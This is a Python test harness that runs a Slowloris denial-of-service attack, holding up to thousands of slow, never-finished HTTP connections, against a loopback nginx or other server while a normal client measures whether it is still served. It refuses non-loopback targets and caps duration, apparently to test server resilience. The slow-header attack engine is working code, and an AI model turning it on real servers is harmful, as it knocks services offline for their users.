#!/usr/bin/env python3
"""Slowloris against a loopback HTTP server, with a normal client alongside.

Opens up to --conns connections that send a request head one byte every
--interval seconds and never finish it (reopening any the server closes),
while a normal client fetches --path over a new connection every
--client-every seconds. Reports how many slow connections the server held
and cut, and whether and how fast the normal client was served, overall and
while the attack was at full strength. Exit 0 when the client was served
(--min-ok of its requests answered 200 within --client-timeout), else 1;
--expect starved inverts that, to prove the tool sees a server fall over.

Bounded: at most --duration seconds (<= 300) and --conns connections
(<= 10000), to 127.0.0.0/8 or ::1 only. --server-cmd starts the server to
attack (e.g. httpd) on a root holding /2k.html. Otherwise it starts nginx on
127.0.0.1 with --worker-connections and --header-timeout (nginx's
client_header_timeout) in a temp dir and stops it at the end.

Python standard library only.
"""

import argparse
import errno
import heapq
import ipaddress
import os
import resource
import selectors
import shlex
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time

HEAD = b"GET /2k.html HTTP/1.1\r\nHost: localhost\r\nUser-Agent: slowloris\r\n"
DRIP = b"X-a: b\r\n"
CONNECT_TIMEOUT = 10.0


def make_root(work):
    root = os.path.join(work, "root")
    os.makedirs(root)
    with open(os.path.join(root, "2k.html"), "wb") as f:
        f.write(b"x" * 2047 + b"\n")
    for p in (work, root):
        os.chmod(p, 0o755)
    os.chmod(os.path.join(root, "2k.html"), 0o644)
    return root


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def wait_ready(proc, port, what):
    end = time.monotonic() + 10
    while time.monotonic() < end:
        if proc.poll() is not None:
            raise SystemExit(f"{what} exited at startup (rc {proc.returncode})")
        try:
            socket.create_connection(("127.0.0.1", port), 0.5).close()
            return
        except OSError:
            time.sleep(0.05)
    proc.kill()
    raise SystemExit(f"{what} did not start")


def start_cmd(template, work):
    root = make_root(work)
    port = free_port()
    argv = [a.replace("{port}", str(port)).replace("{root}", root).replace("{host}", "127.0.0.1")
            for a in shlex.split(template)]
    out = open(os.path.join(work, "server.log"), "wb")
    proc = subprocess.Popen(argv, stdout=out, stderr=subprocess.STDOUT)
    wait_ready(proc, port, argv[0])
    return proc, port


def start_nginx(binary, work, worker_connections, header_timeout):
    root = make_root(work)
    d = os.path.join(work, "nginx")
    os.makedirs(os.path.join(d, "tmp"))
    port = free_port()
    conf = f"""worker_processes 1;
daemon off;
pid {d}/nginx.pid;
error_log {d}/error.log warn;
worker_rlimit_nofile {max(4096, worker_connections * 2)};
events {{ worker_connections {worker_connections}; }}
http {{
  access_log off;
  sendfile on;
  keepalive_timeout 65;
  client_header_timeout {header_timeout}s;
  client_body_temp_path {d}/tmp/body;
  proxy_temp_path {d}/tmp/proxy;
  fastcgi_temp_path {d}/tmp/fastcgi;
  uwsgi_temp_path {d}/tmp/uwsgi;
  scgi_temp_path {d}/tmp/scgi;
  server {{ listen 127.0.0.1:{port}; root {root}; }}
}}
"""
    with open(os.path.join(d, "nginx.conf"), "w") as f:
        f.write(conf)
    out = open(os.path.join(d, "stdout.log"), "wb")
    proc = subprocess.Popen([binary, "-p", d + "/", "-c", d + "/nginx.conf", "-e", d + "/error.log"],
                            stdout=out, stderr=subprocess.STDOUT)
    wait_ready(proc, port, "nginx")
    return proc, port


class Attack:
    """The slow connections, driven from one thread by a selector."""

    def __init__(self, addr, family, conns, interval, open_rate, reopen):
        self.addr, self.family = addr, family
        self.target, self.interval, self.open_rate, self.reopen = conns, interval, open_rate, reopen
        self.sel = selectors.DefaultSelector()
        self.pending = {}     # socket -> connect deadline
        self.open = {}        # socket -> bytes of DRIP sent
        self.drips = []       # heap of (next send time, seq, socket)
        self.seq = 0
        self.opened = 0
        self.cut = 0          # closed by the server
        self.connect_fail = 0
        self.peak = 0
        self.full_since = None

    def _open_one(self):
        s = socket.socket(self.family, socket.SOCK_STREAM)
        s.setblocking(False)
        rc = s.connect_ex(self.addr)
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            self.connect_fail += 1
            return
        self.pending[s] = time.monotonic() + CONNECT_TIMEOUT
        self.sel.register(s, selectors.EVENT_WRITE)

    def _drop(self, s, cut):
        try:
            self.sel.unregister(s)
        except (KeyError, ValueError):
            pass
        self.open.pop(s, None)
        self.pending.pop(s, None)
        s.close()
        if cut:
            self.cut += 1

    def _established(self, s):
        del self.pending[s]
        if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            self.sel.unregister(s)
            s.close()
            self.connect_fail += 1
            return
        try:
            s.send(HEAD)
        except OSError:
            self._drop(s, True)
            return
        self.opened += 1
        self.open[s] = 0
        self.sel.modify(s, selectors.EVENT_READ)
        self.seq += 1
        heapq.heappush(self.drips, (time.monotonic() + self.interval, self.seq, s))

    def run(self, stop_at, stop_event):
        next_open = time.monotonic()
        can_open = True
        while not stop_event.is_set():
            now = time.monotonic()
            if now >= stop_at:
                break
            live = len(self.open) + len(self.pending)
            # Open at --open-rate until the target is reached (again).
            while live < self.target and now >= next_open and (can_open or self.reopen):
                self._open_one()
                live += 1
                next_open += 1.0 / self.open_rate
            if live >= self.target:
                next_open = max(next_open, now)
                can_open = False
            self.peak = max(self.peak, len(self.open))
            if len(self.open) >= self.target and self.full_since is None:
                self.full_since = now
            timeout = 0.05
            if self.drips:
                timeout = max(0.0, min(timeout, self.drips[0][0] - now))
            for key, ev in self.sel.select(timeout):
                s = key.fileobj
                if s in self.pending:
                    self._established(s)
                    continue
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                # Any answer (a 408/400) or EOF: the server cut us off.
                self._drop(s, True)
            now = time.monotonic()
            while self.drips and self.drips[0][0] <= now:
                _, _, s = heapq.heappop(self.drips)
                if s not in self.open:
                    continue
                i = self.open[s]
                try:
                    s.send(DRIP[i % len(DRIP):i % len(DRIP) + 1])
                except OSError:
                    self._drop(s, True)
                    continue
                self.open[s] = i + 1
                self.seq += 1
                heapq.heappush(self.drips, (now + self.interval, self.seq, s))
            for s, dl in list(self.pending.items()):
                if now > dl:
                    self._drop(s, False)
                    self.connect_fail += 1

    def close(self):
        for s in list(self.open) + list(self.pending):
            self._drop(s, False)


def fetch(addr, family, path, timeout):
    """One request on a new connection; (status or None, seconds, error)."""
    t0 = time.monotonic()
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.connect(addr)
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
        data = b""
        while True:
            left = timeout - (time.monotonic() - t0)
            if left <= 0:
                raise socket.timeout()
            s.settimeout(left)
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        if not data.startswith(b"HTTP/1."):
            return None, time.monotonic() - t0, "no response"
        return int(data[9:12]), time.monotonic() - t0, ""
    except socket.timeout:
        return None, time.monotonic() - t0, "timeout"
    except OSError as e:
        return None, time.monotonic() - t0, e.__class__.__name__
    finally:
        s.close()


def pct(xs, p):
    if not xs:
        return float("nan")
    xs = sorted(xs)
    return xs[min(len(xs) - 1, int(p / 100.0 * len(xs)))]


def summary(label, rs):
    ok = [t for st, t, _ in rs if st == 200]
    errs = {}
    for st, _, e in rs:
        if st != 200:
            k = e or f"status {st}"
            errs[k] = errs.get(k, 0) + 1
    lat = (f"latency p50 {pct(ok, 50) * 1000:.1f} ms, p99 {pct(ok, 99) * 1000:.1f} ms, "
           f"max {max(ok) * 1000:.1f} ms" if ok else "no successful request")
    err = ", ".join(f"{v} {k}" for k, v in sorted(errs.items())) or "no failures"
    print(f"  {label}: {len(ok)}/{len(rs)} served; {lat}; {err}")
    return len(ok), len(rs)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    who = ap.add_mutually_exclusive_group()
    who.add_argument("--server", metavar="HOST:PORT", help="attack a running loopback server instead of nginx")
    who.add_argument("--server-cmd", metavar="CMD",
                     help="start the server to attack with CMD ({host}, {port}, {root} replaced; the root "
                          "holds /2k.html), e.g. 'httpd --listen {host}:{port} --root {root} --workers 1'")
    ap.add_argument("--nginx", default=shutil.which("nginx") or "/usr/sbin/nginx")
    ap.add_argument("--worker-connections", type=int, default=512, help="nginx's limit (default 512)")
    ap.add_argument("--header-timeout", type=int, default=60, help="nginx's client_header_timeout in s (default 60)")
    ap.add_argument("--conns", type=int, default=400, help="slow connections to hold (default 400, max 10000)")
    ap.add_argument("--interval", type=float, default=5.0, help="seconds between header bytes (default 5)")
    ap.add_argument("--open-rate", type=float, default=500.0, help="slow connections opened per second (default 500)")
    ap.add_argument("--no-reopen", action="store_true", help="do not replace slow connections the server cuts")
    ap.add_argument("--duration", type=float, default=20.0, help="seconds in all (default 20, max 300)")
    ap.add_argument("--path", default="/2k.html", help="what the normal client fetches")
    ap.add_argument("--client-every", type=float, default=0.1, help="seconds between normal requests (default 0.1)")
    ap.add_argument("--client-timeout", type=float, default=2.0, help="a normal request slower than this failed (default 2)")
    ap.add_argument("--min-ok", type=float, default=0.95, help="share of normal requests that must succeed (default 0.95)")
    ap.add_argument("--expect", choices=("served", "starved"), default="served")
    ap.add_argument("--skip-missing", action="store_true",
                    help="exit 77 (skipped, for meson test) when nginx is needed and not installed")
    args = ap.parse_args()
    if args.skip_missing and not (args.server or args.server_cmd) and not os.access(args.nginx, os.X_OK):
        print(f"skipped: {args.nginx} not installed")
        return 77

    if not 1 <= args.conns <= 10000:
        ap.error("--conns must be 1..10000")
    if not 1 <= args.duration <= 300:
        ap.error("--duration must be 1..300")
    if args.interval < 0.05 or args.open_rate <= 0 or args.client_every < 0.01:
        ap.error("--interval >= 0.05, --open-rate > 0, --client-every >= 0.01")

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    need = args.conns + 64
    if soft < need:
        if hard != resource.RLIM_INFINITY and hard < need:
            raise SystemExit(f"need {need} file descriptors, hard limit is {hard}")
        resource.setrlimit(resource.RLIMIT_NOFILE, (need, hard))

    proc, work = None, None
    try:
        if args.server:
            host, _, port = args.server.rpartition(":")
            host = host.strip("[]") or "127.0.0.1"
            info = socket.getaddrinfo(host, int(port), type=socket.SOCK_STREAM)[0]
            if not ipaddress.ip_address(info[4][0]).is_loopback:
                raise SystemExit(f"{args.server} is not a loopback address; refusing")
            family, addr, name = info[0], info[4], args.server
        elif args.server_cmd:
            work = tempfile.mkdtemp(prefix="slowloris.")
            proc, port = start_cmd(args.server_cmd, work)
            family, addr = socket.AF_INET, ("127.0.0.1", port)
            name = f"{shlex.split(args.server_cmd)[0]} on port {port}"
        else:
            work = tempfile.mkdtemp(prefix="slowloris.")
            proc, port = start_nginx(args.nginx, work, args.worker_connections, args.header_timeout)
            family, addr = socket.AF_INET, ("127.0.0.1", port)
            name = (f"nginx (worker_connections {args.worker_connections}, "
                    f"client_header_timeout {args.header_timeout}s) on port {port}")

        print(f"slowloris: {name}")
        print(f"  attack: {args.conns} connections, one header byte every {args.interval:g} s, "
              f"opened at {args.open_rate:g}/s, {'no reopening' if args.no_reopen else 'reopened when cut'}, "
              f"{args.duration:g} s")
        start = time.monotonic()
        stop_at = start + args.duration
        stop = threading.Event()
        attack = Attack(addr, family, args.conns, args.interval, args.open_rate, not args.no_reopen)
        t = threading.Thread(target=attack.run, args=(stop_at, stop), daemon=True)
        t.start()

        results = []   # (status, seconds, error, started at)
        # Give the attack a head start of a second so the client also runs
        # against a full server, then fetch until the end.
        time.sleep(min(1.0, args.duration / 4))
        while time.monotonic() + args.client_timeout <= stop_at:
            t0 = time.monotonic()
            st, secs, err = fetch(addr, family, args.path, args.client_timeout)
            results.append((st, secs, err, t0))
            time.sleep(max(0.0, args.client_every - (time.monotonic() - t0)))
        stop.set()
        t.join(5)
        attack.close()

        print(f"  slow connections: peak {attack.peak} open at once, {attack.opened} established, "
              f"{attack.cut} cut by the server, {attack.connect_fail} failed or timed-out connects")
        if attack.full_since is not None:
            print(f"  full strength ({args.conns} open) after {attack.full_since - start:.1f} s")
        else:
            print(f"  never reached full strength (the server refused or stalled new connections)")
        ok, n = summary("normal client, whole run", [r[:3] for r in results])
        if attack.full_since is not None:
            summary("normal client, at full strength",
                    [r[:3] for r in results if r[3] >= attack.full_since])
        served = n > 0 and ok >= args.min_ok * n
        verdict = "served" if served else "starved"
        print(f"  verdict: normal client {verdict} ({ok}/{n} requests answered 200 within "
              f"{args.client_timeout:g} s; need {args.min_ok:.0%}); expected {args.expect}")
        return 0 if verdict == args.expect else 1
    finally:
        if proc:
            proc.terminate()
            try:
                proc.wait(5)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()
        if work:
            shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
